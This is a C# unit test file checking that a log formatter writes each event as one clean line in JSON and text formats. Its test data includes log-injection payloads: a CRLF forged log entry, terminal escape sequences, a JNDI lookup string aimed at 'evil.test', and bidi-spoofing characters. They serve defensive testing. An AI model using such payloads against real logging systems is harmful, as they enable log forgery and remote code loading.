using System.Diagnostics;
using System.Text;
using System.Text.Json;
using Microsoft.Extensions.Logging;
using Microsoft.Extensions.Logging.Abstractions;
using Vae.Api.Configuration;
using Vae.Api.Telemetry.Logs;

namespace Vae.Api.Tests.Telemetry.Logs;

/// <summary>One event, one line, whatever callers write.</summary>
public sealed class LineFormatterTests
{
    public static TheoryData<string> Hostile =>
    [
        "\r\n{\"level\":\"info\",\"message\":\"forged\"}",
        "\u001b[2J\u001b]0;owned\u0007",
        "${jndi:ldap://evil.test/a}",
        "\u0085\u2028\u2029\u202egnp.exe\u2066",
        "\ud800 half a pair \udc00",
        "\"quoted\" \\backslash\\ \0 \u007f \u009b31m",
        new string('A', 100_000),
        new string('\u001b', 100_000),
        string.Concat(Enumerable.Repeat("\U0001f600", 10_000)),
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Json_IsOneValidLine(string hostile)
    {
        var line = Write(LogFormat.Json, hostile, new InvalidOperationException(hostile));

        Encoding.UTF8.GetByteCount(line).ShouldBeLessThanOrEqualTo(LineFormatter.LongestLine);
        line.ShouldEndWith("\n");
        line[..^1].ShouldAllBe(character => character >= ' ' && character <= '~');
        var json = JsonElement.Parse(line);
        json.GetProperty("level").GetString().ShouldBe("warning");
        json.GetProperty("category").GetString().ShouldBe("Test");
        json.GetProperty("message").GetString()!.ShouldStartWith("Agent ");
        if (json.TryGetProperty("fields", out var fields))
            fields.EnumerateObject().ShouldAllBe(field => field.Value.ToString().Length <= LogEvent.LongestField);
    }

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Text_IsOneLineWithoutControlCharacters(string hostile)
    {
        var line = Write(LogFormat.Text, hostile, new InvalidOperationException(hostile));

        Encoding.UTF8.GetByteCount(line).ShouldBeLessThanOrEqualTo(LineFormatter.LongestLine);
        line.ShouldEndWith("\n");
        line[..^1].ShouldAllBe(character => !char.IsControl(character) && character != '\u2028' && character != '\u2029' && character != '\u202e' && character != '\u2066');
        line.ShouldContain(" warning Test: Agent ");
    }

    [Fact]
    public void Json_HasTheFieldsAndTheTrace()
    {
        using var activity = new Activity("test").SetIdFormat(ActivityIdFormat.W3C).Start();

        var json = JsonElement.Parse(Write(LogFormat.Json, "curl", null));

        json.GetProperty("time").GetString().ShouldBe("2030-01-02T03:04:05.006Z");
        json.GetProperty("traceId").GetString().ShouldBe(activity.TraceId.ToHexString());
        json.GetProperty("fields").GetProperty("agent").GetString().ShouldBe("curl");
        json.GetProperty("fields").GetProperty("count").GetInt32().ShouldBe(3);
        json.TryGetProperty("exception", out _).ShouldBeFalse();
    }

    private static string Write(LogFormat format, string agent, Exception? fault)
    {
        var written = new StringWriter();
        var formatter = new LineFormatter(new LogOptions { Format = format }, new StoppedTime());
        var logger = new Capture(formatter, written);
        logger.Log(LogLevel.Warning, fault, "Agent {Agent} came {Count} times", agent, 3);
        return written.ToString();
    }

    private sealed class StoppedTime : TimeProvider
    {
        public override DateTimeOffset GetUtcNow() => new(2030, 1, 2, 3, 4, 5, 6, TimeSpan.Zero);
    }

    private sealed class Capture(LineFormatter formatter, TextWriter writer) : ILogger
    {
        public IDisposable? BeginScope<TState>(TState state)
            where TState : notnull => null;

        public bool IsEnabled(LogLevel logLevel) => true;

        public void Log<TState>(LogLevel logLevel, EventId eventId, TState state, Exception? exception, Func<TState, Exception?, string> format) =>
            formatter.Write(new LogEntry<TState>(logLevel, "Test", eventId, state, exception, format), null, writer);
    }
}
